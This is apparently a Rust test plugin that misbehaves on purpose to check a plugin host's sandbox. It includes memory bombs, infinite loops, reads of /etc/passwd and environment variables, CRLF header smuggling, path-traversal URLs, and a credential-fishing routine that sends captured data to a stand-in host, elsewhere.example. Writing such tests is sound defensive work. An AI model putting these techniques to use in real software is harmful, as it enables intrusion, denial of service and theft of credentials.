//! The misbehaviours, by name of their action.

use std::hint::black_box;

use serde_json::{Value, json};

use crate::bindings::windlass::plugin::step_types::{
    Call, Failure, FailureClass, Outcome, RetryAdvice, Suspension, Wake,
};
use crate::bindings::windlass::plugin::{callbacks, checkpoint, connections, log, progress, tools};
use crate::fetch::{Fetch, fetch, get};

pub(crate) fn act(call: &Call) -> Result<Outcome, Failure> {
    let input: Value = serde_json::from_str(&call.input).unwrap_or_default();
    let url = |path: &str| format!("{}{path}", input["url"].as_str().unwrap_or_default());
    let done = match call.action.as_str() {
        "noop" | "typed-input" | "needs-connection" => input,
        "whole-call" => json!({
            "action": call.action, "operation": format!("{:?}", call.operation), "release": call.release,
            "step": call.step, "attempt": call.attempt, "key": call.idempotency_key, "deadline": call.deadline,
            "dry_run": call.dry_run, "input": input, "output": call.output, "context": call.context,
        }),
        "spin" => spin(),
        "spin-in-host-calls" => loop {
            black_box(connections::get("target"));
        },
        "memory-bomb" => memory_bomb(),
        "many-allocations" => many_allocations(),
        "deep-recursion" => json!(recurse(1)),
        "large-output" => {
            const BYTES: usize = 100 * 1024 * 1024;
            let mut output = String::with_capacity(BYTES);
            output.push('"');
            output.extend(std::iter::repeat_n('x', BYTES - 2));
            output.push('"');
            return Ok(Outcome::Done(output));
        }
        "large-failure" => return Err(failure(&"x".repeat(2 * 1024 * 1024))),
        "log-flood" => loop {
            log::log(log::Level::Info, &"flood ".repeat(1000), &[]);
        },
        "stdout-flood" => loop {
            write(&"flood ".repeat(1000));
        },
        "progress-flood" => loop {
            progress::percent(1);
            progress::status("going on");
        },
        "print" => {
            write("to standard output\nunfinished");
            json!({})
        }
        "panic" => panic!("the hostile plugin panics on purpose"),
        "trap" => core::arch::wasm32::unreachable(),
        "exit" => std::process::exit(3),
        "fail" => return Err(failure("the hostile plugin fails on purpose")),
        "read-files" => read_files(),
        "open-sockets" => open_sockets(input["address"].as_str().unwrap_or_default()),
        // Neither is stopped: one has no `cancel`, that of the other fails.
        "goes-on" | "will-not-stop" => return suspend(vec![Wake::After(3_600_000)], 4),
        "suspend-forever" => return suspend(vec![Wake::After(0), Wake::At(0)], 4),
        "no-wakes" => return suspend(Vec::new(), 4),
        "too-many-wakes" => return suspend(vec![Wake::After(1000); 1000], 4),
        "unknown-callback" => return suspend(vec![Wake::Callback("somebody-elses".to_owned())], 4),
        "wait-for-callback" => return suspend(vec![Wake::Callback(callbacks::create().topic)], 4),
        "large-state" => return suspend(vec![Wake::After(1000)], 64 * 1024 + 1),
        "output-not-json" => return Ok(Outcome::Done("{\"open\": ".to_owned())),
        "output-breaks-schema" => json!({"build": {"number": "812"}}),
        "sleep" => {
            std::thread::sleep(std::time::Duration::from_secs(3600));
            json!({})
        }
        "remember" => match checkpoint::begin("part") {
            checkpoint::Begun::Recorded(value) => json!({"recorded": String::from_utf8_lossy(&value)}),
            checkpoint::Begun::Fresh(slot) => {
                checkpoint::Slot::finish(slot, b"answer");
                json!({"fresh": true})
            }
        },
        "leave-checkpoint" => {
            drop(checkpoint::begin("left"));
            json!({})
        }
        "large-checkpoint" => {
            if let checkpoint::Begun::Fresh(slot) = checkpoint::begin("part") {
                checkpoint::Slot::finish(slot, &vec![0; 64 * 1024 + 1]);
            }
            json!({})
        }
        "random" => {
            let random = std::collections::hash_map::RandomState::new();
            json!(std::hash::BuildHasher::hash_one(&random, 1_u8).to_string())
        }
        "own-connections" => json!({
            "target": connections::get("target").map(|it| it.base_url),
            "other": connections::get("other").map(|it| it.base_url),
        }),

        "ungranted-host" | "ungranted-path" | "request" => expect(&get(&url("")))?,
        "ungranted-method" => {
            expect(&fetch(Fetch { method: "DELETE", url: &url(""), headers: Vec::new(), body: None }))?
        }
        "swallow-denial" => json!([get(&url("/secret/admin")), get(&url("/open/hello"))]),
        "fail-later-for-another-reason" => {
            get(&url("/secret/admin"));
            get(&url("/open/hello"));
            return Err(failure("the build failed"));
        }
        "panic-after-denial" => {
            let answer = get(&url("/secret/admin"));
            assert_eq!(answer["status"], 200);
            answer
        }
        "follow-redirect" => follow(url("/open/redirect")),
        "header-smuggling" => smuggle(&url("/open/echo")),
        "path-tricks" => path_tricks(&url("")),
        "credential-fishing" => fish(&url("")),
        // Where the author of a workflow wrote the credential into an input, it is to be kept nowhere either.
        "keep-credential" => {
            let answer = get(&url("/open/hello"));
            let text = input["keep"].as_str().unwrap_or_default();
            match input["where"].as_str() {
                Some("failure") => {
                    return Err(Failure { details: vec![("kept".to_owned(), text.to_owned())], ..failure(text) });
                }
                Some("panic") => panic!("{text}"),
                _ => {}
            }
            let keep = text.as_bytes();
            match (input["where"].as_str(), checkpoint::begin("part")) {
                (Some("checkpoint"), checkpoint::Begun::Fresh(slot)) => checkpoint::Slot::finish(slot, keep),
                _ => {
                    let status = input["keep"].as_str().unwrap_or_default().to_owned();
                    let wakes = vec![Wake::After(1000)];
                    let state = if input["where"] == "state" { keep.to_vec() } else { Vec::new() };
                    return Ok(Outcome::Suspended(Suspension { state, wakes, status }));
                }
            }
            answer
        }
        "slow-answer" => {
            let method = input["method"].as_str().unwrap_or("GET");
            fetch(Fetch { method, url: &url("/open/never"), headers: Vec::new(), body: None })
        }
        "many-requests" => loop {
            get(&url("/open/hello"));
        },
        "big-response" => get(&url("/open/big")),
        "big-request" => fetch(Fetch {
            method: "POST",
            url: &url("/open/echo"),
            headers: Vec::new(),
            body: Some(vec![b'x'; 200_000]),
        }),
        "send-time" => {
            let random = std::collections::hash_map::RandomState::new();
            let random = std::hash::BuildHasher::hash_one(&random, 1_u8);
            let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap_or_default();
            let begun = std::time::Instant::now();
            get(&url(&format!("/open/echo?t={}&r={random}&e={}", now.as_nanos(), begun.elapsed().as_nanos())))
        }
        "send" => then(&input, send(&input))?,
        "run-tool" => then(&input, run_tool(&input)?)?,
        other => return Err(failure(&format!("no action {other}"))),
    };
    Ok(Outcome::Done(done.to_string()))
}

pub(crate) fn failure(message: &str) -> Failure {
    Failure {
        class: FailureClass::Rejected,
        code: "on-purpose".to_owned(),
        message: message.to_owned(),
        retry: RetryAdvice::After(7),
        details: vec![("why".to_owned(), "to see it".to_owned())],
    }
}

/// How a call ends after what it did, whatever came of that.
fn then(input: &Value, did: Value) -> Result<Value, Failure> {
    match input["then"].as_str() {
        Some("fail") => Err(failure(&did.to_string())),
        Some("panic") => panic!("after {did}"),
        Some("spin") => spin(),
        _ => Ok(did),
    }
}

fn expect(answer: &Value) -> Result<Value, Failure> {
    if answer["status"] == 200 { Ok(answer.clone()) } else { Err(failure(&format!("something went wrong: {answer}"))) }
}

fn suspend(wakes: Vec<Wake>, state_bytes: usize) -> Result<Outcome, Failure> {
    Ok(Outcome::Suspended(Suspension { state: vec![1; state_bytes], wakes, status: "waiting".to_owned() }))
}

#[expect(clippy::print_stdout, reason = "standard output is what is tried")]
fn write(text: &str) {
    print!("{text}");
    // A failure to write is the host's answer.
    let _ = std::io::Write::flush(&mut std::io::stdout());
}

fn spin() -> ! {
    let mut count = 0_u64;
    loop {
        count = black_box(count.wrapping_add(1));
    }
}

fn memory_bomb() -> Value {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut block: Vec<u8> = Vec::new();
        // Even a plugin that takes a refusal well does not go on.
        if block.try_reserve_exact(1024 * 1024).is_err() {
            return json!({"megabytes": hoard.len()});
        }
        block.resize(1024 * 1024, 1);
        hoard.push(black_box(block));
    }
}

fn many_allocations() -> Value {
    let mut hoard: Vec<Box<[u8; 24]>> = Vec::new();
    loop {
        hoard.push(black_box(Box::new([1; 24])));
    }
}

#[expect(unconditional_recursion, reason = "that is the point")]
fn recurse(depth: u64) -> u64 {
    let local = black_box([depth; 8]);
    recurse(depth + 1) + black_box(local)[3]
}

fn read_files() -> Value {
    let mut found = Vec::new();
    for path in ["/etc/passwd", "etc/passwd", "../../etc/passwd", "/proc/self/environ", "."] {
        if std::fs::read(path).is_ok() || std::fs::read_dir(path).is_ok() {
            found.push(format!("file {path}"));
        }
    }
    if std::fs::write("written-by-windlass-hostile", b"x").is_ok() {
        found.push("wrote a file".to_owned());
    }
    found.extend(std::env::vars().map(|(name, _)| format!("variable {name}")));
    found.extend(std::env::args().map(|it| format!("argument {it}")));
    found.extend(
        std::env::current_dir().map(|it| format!("folder {}", it.display())).ok().filter(|it| it != "folder /"),
    );
    json!(found)
}

fn open_sockets(address: &str) -> Value {
    use std::net::{TcpListener, TcpStream, ToSocketAddrs as _, UdpSocket};
    let mut found = Vec::new();
    if TcpStream::connect(address).is_ok() {
        found.push("connected");
    }
    if TcpListener::bind("127.0.0.1:0").is_ok() {
        found.push("listened");
    }
    if UdpSocket::bind("127.0.0.1:0").is_ok_and(|it| it.send_to(b"x", address).is_ok()) {
        found.push("sent a datagram");
    }
    if "localhost:80".to_socket_addrs().is_ok() {
        found.push("resolved a name");
    }
    json!(found)
}

fn follow(mut url: String) -> Value {
    let mut seen = Vec::new();
    for _ in 0..5 {
        let answer = get(&url);
        let location = answer["headers"]
            .as_array()
            .and_then(|it| it.iter().find(|it| it[0] == "location"))
            .and_then(|it| it[1].as_str().map(str::to_owned));
        seen.push(answer);
        match location {
            Some(location) => url = location,
            None => break,
        }
    }
    json!(seen)
}

fn smuggle(url: &str) -> Value {
    let attempts = [
        ("authorization", "Bearer mine"),
        ("Authorization", "Basic bWluZTptaW5l"),
        ("host", "elsewhere.example"),
        ("connection", "close"),
        ("transfer-encoding", "chunked"),
        ("proxy-authorization", "Basic bWluZTptaW5l"),
        ("upgrade", "websocket"),
        ("content-length", "5"),
        ("x-good", "a\r\nauthorization: Bearer mine"),
        ("accept-encoding", "gzip"),
        ("expect", "100-continue"),
        ("X-HTTP-Method-Override", "DELETE"),
        ("x-original-url", "/secret/admin"),
        ("X-Rewrite-URL", "/secret/admin"),
        ("x-good", "fine"),
    ];
    let tried = attempts.map(|(name, value)| {
        let headers = vec![(name.to_owned(), value.to_owned())];
        json!({"header": name, "answer": fetch(Fetch { method: "GET", url, headers, body: None })})
    });
    json!(tried)
}

fn path_tricks(base: &str) -> Value {
    let authority = base.split_once("://").map(|it| it.1).unwrap_or_default();
    let tricks = [
        format!("{base}/open/../secret/admin"),
        format!("{base}/open/%2e%2e/secret/admin"),
        format!("{base}/open/..;/secret/admin"),
        format!("{base}/open/..%2fsecret/admin"),
        format!("{base}//secret/admin"),
        format!("{base}/open/./../secret/admin"),
        format!("{base}/open\\..\\secret/admin"),
        format!("{base}/OPEN/hello"),
        format!("http://{authority}@elsewhere.example/open/hello"),
        format!("http://user:pass@{authority}/open/hello"),
        format!("https://{authority}/open/hello"),
        format!("{base}1/open/hello"),
    ];
    json!(tricks.map(|it| json!({"url": it, "answer": get(&it)})))
}

/// Asks every place where a server might give the credential away, and passes on all it saw.
fn fish(base: &str) -> Value {
    let seen: Vec<Value> =
        ["/open/echo", "/open/echo-encoded", "/open/echo-header", "/open/echo-chunks", "/open/echo-gzip"]
            .iter()
            .map(|path| get(&format!("{base}{path}")))
            .collect();
    let text = json!(seen).to_string();
    log::log(log::Level::Info, &text, &[("seen".to_owned(), text.clone())]);
    progress::status(&text);
    progress::link(&text, &format!("https://elsewhere.example/?{text}"));
    write(&format!("{text}\n"));
    // Nobody takes a credential out of what is written backwards: this tells what was seen here, in the guest.
    let backwards: String = text.chars().rev().collect();
    json!({"seen": seen, "backwards": backwards, "connection": connections::get("target").map(|it| it.properties)})
}

fn run_tool(input: &Value) -> Result<Value, Failure> {
    let texts = |name: &str| -> Vec<String> {
        let list = input[name].as_array().cloned().unwrap_or_default();
        list.iter().filter_map(|it| it.as_str().map(str::to_owned)).collect()
    };
    let times = input["times"].as_u64().unwrap_or(1);
    let mut runs = Vec::new();
    for _ in 0..times {
        let command = tools::Command {
            tool: "helm".to_owned(),
            arguments: texts("arguments"),
            connection: input["role"].as_str().map(str::to_owned),
            files: input["file"].as_str().map(|it| (it.to_owned(), b"from the plugin".to_vec())).into_iter().collect(),
            stdin: b"standard input".to_vec(),
        };
        let process = match tools::run(&command) {
            Ok(process) => process,
            Err(error) => return Err(failure(&format!("{error:?}"))),
        };
        if input["drop"] == true {
            continue;
        }
        let (stdout, stderr) = (process.stdout(), process.stderr());
        let read = |stream: crate::bindings::wasi::io::streams::InputStream| {
            let mut content = Vec::new();
            while let Ok(chunk) = stream.blocking_read(4096) {
                content.extend_from_slice(&chunk);
            }
            String::from_utf8_lossy(&content).into_owned()
        };
        let (stdout, stderr) = (read(stdout), read(stderr));
        let again = read(process.stdout());
        runs.push(json!({"stdout": stdout, "stderr": stderr, "again": again, "end": format!("{:?}", process.wait())}));
    }
    Ok(json!(runs))
}

/// Sends one request after the other, whatever comes of them, and follows redirects with the same request.
pub(crate) fn send(input: &Value) -> Value {
    let text = |value: &Value| value.as_str().map(str::to_owned);
    let requests = input["requests"].as_array().cloned().unwrap_or_default();
    let answers = requests.iter().map(|it| {
        let headers = it["headers"].as_object().into_iter().flatten();
        let headers: Vec<_> = headers.filter_map(|(name, value)| Some((name.clone(), text(value)?))).collect();
        let mut url =
            format!("{}{}", input["url"].as_str().unwrap_or_default(), it["path"].as_str().unwrap_or_default());
        for _ in 0..3 {
            let body = text(&it["body"]).map(String::into_bytes);
            let method = it["method"].as_str().unwrap_or("GET");
            let answer = fetch(Fetch { method, url: &url, headers: headers.clone(), body });
            let named = answer["headers"].as_array().and_then(|it| it.iter().find(|it| it[0] == "location").cloned());
            match named.and_then(|it| text(&it[1])) {
                Some(location) => url = location,
                None => return answer,
            }
        }
        Value::Null
    });
    json!(answers.collect::<Vec<_>>())
}
